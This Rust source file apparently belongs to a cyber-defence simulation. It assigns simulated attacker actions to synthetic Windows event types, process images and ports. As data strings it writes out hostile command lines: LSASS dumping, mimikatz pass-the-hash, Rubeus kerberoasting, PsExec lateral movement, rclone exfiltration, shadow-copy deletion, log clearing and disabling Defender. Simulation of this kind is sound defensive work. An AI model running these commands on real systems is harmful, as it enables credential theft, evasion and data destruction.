//! What red's, green's and the background's lines say: per action the event templates (with
//! weights), the process image, the command line and the port its traffic uses.

use crate::actions::*;
use crate::rng::Rng;

use super::Template::{self, *};

/// What a line says: its templates (weights), the process image and command line.
pub struct Flavor {
    pub templates: &'static [(Template, f64)],
    pub image: &'static str,
    pub command: &'static str,
    pub port: u16,
}

const fn fl(
    templates: &'static [(Template, f64)],
    image: &'static str,
    command: &'static str,
    port: u16,
) -> Flavor {
    Flavor {
        templates,
        image,
        command,
        port,
    }
}

/// Flavours of red actions, by action type (unused ids and Sleep never write a line).
pub const RED_FLAVOR: [Flavor; 32] = {
    let mut t = [QUIET; 32];
    t[R_DISCOVERY] = fl(
        &[
            (SysmonDns22, 0.5),
            (SysmonNetwork3, 0.3),
            (ProcessCreate4688, 0.2),
        ],
        "nltest.exe",
        "nltest.exe /dclist",
        389,
    );
    t[R_SCAN] = fl(
        &[(SysmonNetwork3, 0.8), (LogonFailed4625, 0.2)],
        "nmap.exe",
        "nmap.exe -sS -p- --open",
        445,
    );
    t[R_ETERNAL_BLUE] = fl(
        &[
            (Logon4624, 0.3),
            (SysmonProcess1, 0.3),
            (SysmonNetwork3, 0.2),
            (ProcessCreate4688, 0.2),
        ],
        "rundll32.exe",
        "rundll32.exe payload.dll,Start",
        445,
    );
    t[R_BLUE_KEEP] = fl(
        &[
            (Logon4624, 0.3),
            (SysmonProcess1, 0.3),
            (SysmonNetwork3, 0.2),
            (ProcessCreate4688, 0.2),
        ],
        "rundll32.exe",
        "rundll32.exe termdd_exp.dll",
        3389,
    );
    t[R_HTTP_RFI] = fl(
        &[
            (SysmonProcess1, 0.4),
            (SysmonNetwork3, 0.4),
            (ProcessCreate4688, 0.2),
        ],
        "w3wp.exe",
        "w3wp.exe -> powershell.exe -enc SQBFAFgA",
        80,
    );
    t[R_REMOTE_SERVICE] = fl(
        &[
            (Logon4624, 0.4),
            (LogonFailed4625, 0.3),
            (SysmonNetwork3, 0.3),
        ],
        "powershell.exe",
        "powershell.exe -enc JABjAGwA",
        5985,
    );
    t[R_PRIV_ESC] = fl(
        &[(ProcessCreate4688, 0.5), (SysmonProcess1, 0.5)],
        "whoami.exe",
        "whoami.exe /priv",
        0,
    );
    t[R_DUMP_LSASS] = fl(
        &[(SysmonProcessAccess10, 0.8), (ProcessCreate4688, 0.2)],
        "mimikatz.exe",
        "procdump.exe -ma lsass.exe",
        0,
    );
    t[R_PASS_THE_TICKET] = fl(
        &[
            (KerberosTgt4768, 0.5),
            (ExplicitCreds4648, 0.3),
            (Logon4624, 0.2),
        ],
        "Rubeus.exe",
        "Rubeus.exe ptt /ticket:doIF",
        88,
    );
    t[R_LATERAL_SMB] = fl(
        &[
            (ExplicitCreds4648, 0.4),
            (Logon4624, 0.3),
            (SysmonNetwork3, 0.3),
        ],
        "PSEXESVC.exe",
        "PsExec.exe \\\\target -s cmd.exe",
        445,
    );
    t[R_PHISHING] = fl(
        &[(SysmonProcess1, 0.5), (SysmonDns22, 0.5)],
        "WINWORD.EXE",
        "WINWORD.EXE invoice.docm -> powershell.exe",
        443,
    );
    t[R_PERSISTENCE] = fl(
        &[(ProcessCreate4688, 0.6), (SysmonProcess1, 0.4)],
        "schtasks.exe",
        "schtasks.exe /create /sc minute /tn updater",
        0,
    );
    t[R_CLEAR_LOGS] = fl(
        &[(ProcessCreate4688, 1.0)],
        "wevtutil.exe",
        "wevtutil.exe cl Security",
        0,
    );
    t[R_EXFILTRATE] = fl(
        &[(SysmonNetwork3, 0.6), (SysmonDns22, 0.4)],
        "rclone.exe",
        "rclone.exe copy C:\\data remote:drop",
        443,
    );
    t[R_RANSOMWARE] = fl(
        &[(SysmonProcess1, 0.7), (ProcessCreate4688, 0.3)],
        "vssadmin.exe",
        "vssadmin.exe delete shadows /all /quiet",
        0,
    );
    t[R_KINETIC] = fl(
        &[(SysmonNetwork3, 1.0)],
        "modbus_write.exe",
        "modbus_write.exe --register 40001 --force",
        502,
    );
    t[R_KERBEROAST] = fl(
        &[(KerberosTgt4768, 0.7), (CredValidation4776, 0.3)],
        "Rubeus.exe",
        "Rubeus.exe kerberoast /outfile:h.txt",
        88,
    );
    t[R_KILL_PROCESS] = fl(
        &[(ProcessCreate4688, 0.5), (SysmonProcess1, 0.5)],
        "sc.exe",
        "sc.exe stop SenseService",
        0,
    );
    t[R_PROCESS_INJECTION] = fl(
        &[(SysmonProcessAccess10, 0.7), (SysmonProcess1, 0.3)],
        "rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL",
        0,
    );
    t[R_JUICY_POTATO] = fl(
        &[(SysmonProcess1, 0.5), (ProcessCreate4688, 0.5)],
        "JuicyPotato.exe",
        "JuicyPotato.exe -l 1337 -p cmd.exe -t *",
        135,
    );
    t[R_PASS_THE_HASH] = fl(
        &[
            (ExplicitCreds4648, 0.4),
            (Logon4624, 0.4),
            (CredValidation4776, 0.2),
        ],
        "mimikatz.exe",
        "mimikatz.exe sekurlsa::pth /user:Administrator /ntlm:31d6cfe0",
        445,
    );
    t[R_V4L2] = fl(
        &[(SysmonProcess1, 1.0)],
        "v4l2_exp",
        "./v4l2_exp --spray /dev/video0",
        0,
    );
    t[R_NETWORK_SCAN] = fl(
        &[(SysmonNetwork3, 0.9), (SysmonDns22, 0.1)],
        "nmap.exe",
        "nmap.exe -sV --top-ports 100 -iL subnet.txt",
        445,
    );
    t[R_IP_FRAGMENTATION] = fl(
        &[(SysmonNetwork3, 1.0)],
        "fragroute.exe",
        "fragroute.exe -f frag.conf",
        4444,
    );
    t
};

/// The flavour of ids that never write a line.
const QUIET: Flavor = fl(&[(SysmonDns22, 1.0)], "", "", 0);

/// Benign activity (green agent and background noise).
const BENIGN_TEMPLATES: &[(Template, f64)] = &[
    (Logon4624, 0.3),
    (SysmonDns22, 0.3),
    (SysmonNetwork3, 0.2),
    (ProcessCreate4688, 0.1),
    (KerberosTgt4768, 0.1),
];
const BENIGN_IMAGES: [&str; 6] = [
    "explorer.exe",
    "chrome.exe",
    "OUTLOOK.EXE",
    "svchost.exe",
    "Teams.exe",
    "OneDrive.exe",
];
/// A false positive: admin activity that looks like an attack.
pub const FALSE_POSITIVE: Flavor = fl(
    &[
        (LogonFailed4625, 0.4),
        (ProcessCreate4688, 0.3),
        (CredValidation4776, 0.3),
    ],
    "powershell.exe",
    "powershell.exe -ExecutionPolicy Bypass -File backup.ps1",
    5985,
);

/// Picks a benign image.
pub fn benign_image(rng: &mut Rng) -> &'static str {
    BENIGN_IMAGES[rng.below(BENIGN_IMAGES.len() as u64) as usize]
}

/// The benign flavour.
pub const BENIGN: Flavor = fl(BENIGN_TEMPLATES, "svchost.exe", "svchost.exe", 443);
